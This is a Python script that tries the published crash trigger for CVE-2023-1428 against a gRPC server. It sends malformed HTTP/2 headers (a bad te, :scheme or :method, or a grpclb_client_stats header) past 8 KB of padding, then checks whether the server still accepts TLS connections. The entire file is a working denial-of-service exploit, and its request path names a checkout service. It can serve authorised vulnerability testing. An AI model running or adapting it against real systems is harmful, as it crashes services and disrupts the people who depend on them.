#!/usr/bin/python3
"""h2_bad_headers.py: tries the published trigger of CVE-2023-1428 on a gRPC listener.

gRPC C-core before 1.53 may abort() the whole process when a request carries
`te` other than "trailers", `:scheme` other than http/https, a bad `:method` or
a `grpclb_client_stats` header, and more headers follow past 8 KB. This sends
each of those (4 headers x before/after 10 KB of padding x one HEADERS frame or
HEADERS + CONTINUATION: 16 requests, each on its own TLS connection) and then
says whether the server still completes a TLS handshake. Exit 0 if it does,
1 if it does not (it crashed), 2 on bad usage.

  h2_bad_headers.py --target HOST:PORT [--cert FILE --key FILE]
"""
import argparse
import socket
import ssl
import struct
import sys
import time

import hpack


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, stream) + payload


def tls(args):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    if args.cert:
        ctx.load_cert_chain(args.cert, args.key)
    host, port = args.target.rsplit(":", 1)
    return ctx.wrap_socket(socket.create_connection((host, int(port)), timeout=5),
                           server_hostname=host)


def send(args, headers, continuation):
    sock = tls(args)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    block = hpack.Encoder().encode(headers)
    if continuation:
        sock.sendall(frame(1, 0, 1, block[:100]) + frame(9, 0x4, 1, block[100:]))
    else:
        sock.sendall(frame(1, 0x4, 1, block))
    sock.sendall(frame(0, 0x1, 1, b"\0\0\0\0\0"))
    time.sleep(0.2)
    try:
        sock.recv(1000)
    except OSError:
        pass
    sock.close()


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--target", required=True)
    p.add_argument("--cert")
    p.add_argument("--key")
    args = p.parse_args()
    base = [(":method", "POST"), (":scheme", "https"), (":path", "/authnet.v1.CheckoutService/Check"),
            (":authority", "x"), ("content-type", "application/grpc"), ("te", "trailers")]
    bad = [("te", "x"), (":scheme", "x"), (":method", "X"), ("grpclb_client_stats", "x")]
    pad = [(f"x-pad{i}", "a" * 1000) for i in range(10)]
    tried = 0
    for key, value in bad:
        for before in (True, False):
            for continuation in (False, True):
                headers = [h for h in base if h[0] != key]
                headers = headers + [(key, value)] + pad if before else headers + pad + [(key, value)]
                try:
                    send(args, headers, continuation)
                except OSError:
                    pass
                tried += 1
    time.sleep(0.5)
    try:
        tls(args).close()
    except OSError as e:
        print(f"after {tried} requests the server no longer answers: {e}")
        return 1
    print(f"after {tried} requests the server still answers")
    return 0


if __name__ == "__main__":
    sys.exit(main())
